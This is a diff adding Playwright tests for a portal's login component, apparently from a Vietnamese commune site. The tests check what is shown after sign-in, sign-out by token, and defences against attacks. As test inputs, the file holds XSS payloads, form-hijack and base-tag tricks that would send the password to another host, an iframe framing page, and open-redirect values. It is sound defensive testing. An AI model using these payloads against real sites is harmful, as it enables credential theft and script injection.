@@ -1,0 +1,172 @@
+import assert from 'node:assert/strict';
+import { after, afterEach, before, describe, test } from 'node:test';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { openChromium } from '../bundle/page.ts';
+import { violations } from '../demo/axe.ts';
+import { openAspNet, type AspNetOptions } from './aspnet-site.ts';
+import { json, openSite, page as html } from './site.ts';
+
+const account = 'session="/api/me" sign-out="/dang-xuat"';
+
+describe('who is signed in', () => {
+  let browser: Browser;
+  let context: BrowserContext;
+  let site: Awaited<ReturnType<typeof openAspNet>>;
+  before(async () => {
+    browser = await openChromium();
+  });
+  after(() => browser.close());
+  afterEach(async () => {
+    await context.close();
+    await site.close();
+  });
+
+  /** A page on which somebody has just signed in. */
+  const signIn = async (options: AspNetOptions = {}): Promise<Page> => {
+    site = await openAspNet({ attributes: account, ...options });
+    context = await browser.newContext();
+    const page = await context.newPage();
+    page.setDefaultTimeout(10_000);
+    await page.goto(site.address);
+    await page.getByLabel('Tên đăng nhập').fill('vanphong');
+    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
+    await page.keyboard.press('Enter');
+    await page.getByRole('button', { name: 'Đăng xuất' }).waitFor();
+    return page;
+  };
+
+  test('name, role and the portal’s links stand in the place of the form, which moves nothing', async () => {
+    const page = await signIn({
+      me: { name: 'Văn phòng xã', role: 'Biên tập viên', links: [{ text: 'Trang quản trị', href: '/quan-tri' }] },
+    });
+    await page.getByText('Biên tập viên').waitFor();
+    assert.equal(await page.getByRole('link', { name: 'Trang quản trị' }).getAttribute('href'), `${site.address}quan-tri`);
+    assert.equal(await page.locator('[type=password]').isVisible(), false);
+    assert.deepEqual(await violations(page), []);
+  });
+
+  test('signs out by a POST with the page’s token, and other tabs see it', async () => {
+    const page = await signIn();
+    const other = await context.newPage();
+    await other.goto(site.address);
+    await other.getByRole('button', { name: 'Đăng xuất' }).waitFor();
+    await page.getByRole('button', { name: 'Đăng xuất' }).click();
+    await page.getByLabel('Tên đăng nhập').waitFor();
+    await other.getByLabel('Tên đăng nhập').waitFor();
+    assert.equal(site.arrivals.signOuts.length, 1);
+    assert.deepEqual([...site.arrivals.signOuts[0]!.keys()], ['__RequestVerificationToken']);
+  });
+
+  test('an attacker’s data are text: no script’s address, no picture of another site, no markup', async () => {
+    const page = await signIn({
+      me: {
+        name: '<img src=x onerror="document.title=1">',
+        picture: 'https://theo-doi.example/a.gif',
+        links: [
+          { text: 'Quản trị', href: 'javascript:document.title=2' },
+          { text: 'Dữ liệu', href: 'data:text/html,<script>document.title=3</script>' },
+          { text: 'Văn bản', href: '/van-ban' },
+          null,
+          { href: '/khong-chu' },
+        ],
+      },
+    });
+    await page.getByText('<img src=x onerror="document.title=1">').waitFor();
+    assert.deepEqual(await page.locator('.account a').allTextContents(), ['Văn bản']);
+    assert.equal(await page.locator('.account img').count(), 0);
+    assert.equal(await page.title(), 'Cổng xã Suối Ngàn');
+  });
+
+  test('an answer that is none leaves the form, without a word', async () => {
+    site = await openAspNet({ attributes: 'session="/khong-phai-json"' });
+    context = await browser.newContext();
+    const page = await context.newPage();
+    const said: string[] = [];
+    page.on('pageerror', (error) => said.push(error.message));
+    const asked = page.waitForResponse('**/khong-phai-json');
+    await page.goto(site.address);
+    await asked;
+    await page.getByLabel('Tên đăng nhập').waitFor();
+    assert.deepEqual(said, []);
+  });
+});
+
+describe('attacks on a login', () => {
+  let browser: Browser;
+  let page: Page;
+  let close: () => Promise<void>;
+  before(async () => {
+    browser = await openChromium();
+  });
+  after(() => browser.close());
+  afterEach(async () => {
+    await page.close();
+    await close();
+  });
+
+  const open = async (options: AspNetOptions): Promise<Awaited<ReturnType<typeof openAspNet>>> => {
+    const site = await openAspNet(options);
+    ({ close } = site);
+    page = await browser.newPage();
+    page.setDefaultTimeout(10_000);
+    await page.goto(site.address);
+    return site;
+  };
+  const trySignIn = async (): Promise<void> => {
+    await page.getByLabel('Tên đăng nhập').fill('vanphong');
+    await page.getByLabel('Mật khẩu', { exact: true }).fill('lua-chin-2026');
+    await page.getByRole('button', { name: 'Đăng nhập' }).click();
+  };
+
+  for (const [attack, options] of Object.entries({
+    'a button with an address of its own': { buttonAttributes: 'formaction="http://localhost:9/bat"' },
+    'a form attribute that gives the fields to another form': {
+      buttonAttributes: 'form="bat"',
+      extra: '<form id="bat" method="post" action="http://localhost:9/bat"></form><script>document.querySelectorAll("portal-login input").forEach((field) => field.setAttribute("form", "bat"))</script>',
+    },
+    'a base that leads every address elsewhere': { extra: '<base href="http://localhost:9/">' },
+  })) {
+    test(`${attack}: the password is not sent to another site`, async () => {
+      await open(options);
+      const abroad: string[] = [];
+      page.on('request', (request) => {
+        if (request.url().includes(':9/')) abroad.push(request.url());
+      });
+      await trySignIn();
+      await page.getByText('mật khẩu sẽ đi tới một trang khác').waitFor();
+      assert.deepEqual(abroad, []);
+    });
+  }
+
+  test('in a frame of another site no password is taken', async () => {
+    const site = await open({});
+    const attacker = await openSite((_, response) =>
+      html(response, `<iframe title="x" width="600" height="600" src="http://localhost:${site.port}/"></iframe>`),
+    );
+    await page.goto(`http://127.0.0.1:${attacker.port}/`);
+    const frame = page.frameLocator('iframe');
+    await frame.getByText('đang nhúng trang này').waitFor();
+    assert.equal(await frame.locator('[type=password]').isDisabled(), true);
+    await attacker.close();
+  });
+
+  test('the return address never leads to another site', async () => {
+    const { port, close: closeSite } = await openSite(({ url }, response) => {
+      if (url.pathname === '/api') return json(response, {});
+      html(response, '<portal-login return-param="ReturnUrl"><a href="/dang-nhap">Đăng nhập</a></portal-login>');
+    });
+    close = closeSite;
+    page = await browser.newPage();
+    page.setDefaultTimeout(10_000);
+    const returnUrl = async (path: string): Promise<string | null> => {
+      await page.goto(`http://127.0.0.1:${port}${path}`);
+      await page.waitForFunction(() => document.querySelector('a')!.search);
+      return new URL(await page.locator('a').evaluate((link: HTMLAnchorElement) => link.href)).searchParams.get('ReturnUrl');
+    };
+    assert.equal(await returnUrl('/tin-tuc?trang=2#bai-3'), '/tin-tuc?trang=2#bai-3');
+    assert.equal(await returnUrl('/dang-nhap?ReturnUrl=%2Fvan-ban'), '/van-ban');
+    for (const elsewhere of ['https://bat.example/', '//bat.example/', '/\\bat.example', 'javascript:alert(1)'])
+      assert.equal(await returnUrl(`/dang-nhap?ReturnUrl=${encodeURIComponent(elsewhere)}`), '/dang-nhap');
+    assert.equal(await returnUrl('//bat.example/'), '/bat.example/');
+  });
+});
